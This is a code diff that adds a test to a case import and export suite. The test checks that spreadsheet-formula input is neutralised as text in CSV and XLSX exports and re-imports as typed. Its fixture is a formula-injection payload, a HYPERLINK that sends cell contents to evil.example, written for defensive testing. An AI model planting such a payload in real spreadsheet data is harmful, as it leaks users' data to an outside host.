@@ -324,6 +324,41 @@ describeEachDb('case import and export', (ctx) => {
 		expect((await listCaseImports({ actor: actors.advisor }, { db })).imports).toHaveLength(1);
 	});
 
+	test('a name typed as a spreadsheet formula is exported as text in CSV and XLSX, and re-imports as typed', async () => {
+		const { db, actors } = await setup();
+		const formula = '=HYPERLINK("http://evil.example/?x="&A1,"CLICK")';
+		await createCase(
+			{
+				actor: actors.advisor,
+				input: { firstName: formula, lastName: '-2+3', phone: '+33 6 12 34 56 78', birthYear: '1985' }
+			},
+			{ db }
+		);
+		const csv = await exportCases({ actor: actors.advisor, format: 'csv' }, { db });
+		const text = new TextDecoder().decode(csv.body);
+		expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""CLICK"")"`);
+		expect(text).toContain(";'-2+3;");
+		expect(text).toContain(";'+33612345678;");
+		expect(text).not.toMatch(/(^|;)"?[=+@]/m);
+		expect(text).not.toMatch(/(^|;)-\D/m);
+
+		const xlsx = await exportCases({ actor: actors.advisor, format: 'xlsx' }, { db });
+		const workbook = new ExcelJS.Workbook();
+		await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
+		const cell = workbook.worksheets[0].getRow(2).getCell(2);
+		expect(cell.type).toBe(ExcelJS.ValueType.String);
+		expect(cell.value).toBe(`'${formula}`);
+
+		for (const [name, body] of [
+			['cases.csv', csv.body],
+			['cases.xlsx', xlsx.body]
+		] as const) {
+			const { table } = await readTable(name, body);
+			expect(table.rows[0][table.headers.indexOf('first_name')]).toBe(formula);
+			expect(table.rows[0][table.headers.indexOf('birth_year')]).toBe('1985');
+		}
+	});
+
 	test('an export re-imports as is: CSV and XLSX carry the same cases with their dates', async () => {
 		const { db, actors, other } = await setup();
 		const rows = sampleCaseRows(20, COMMUNES);
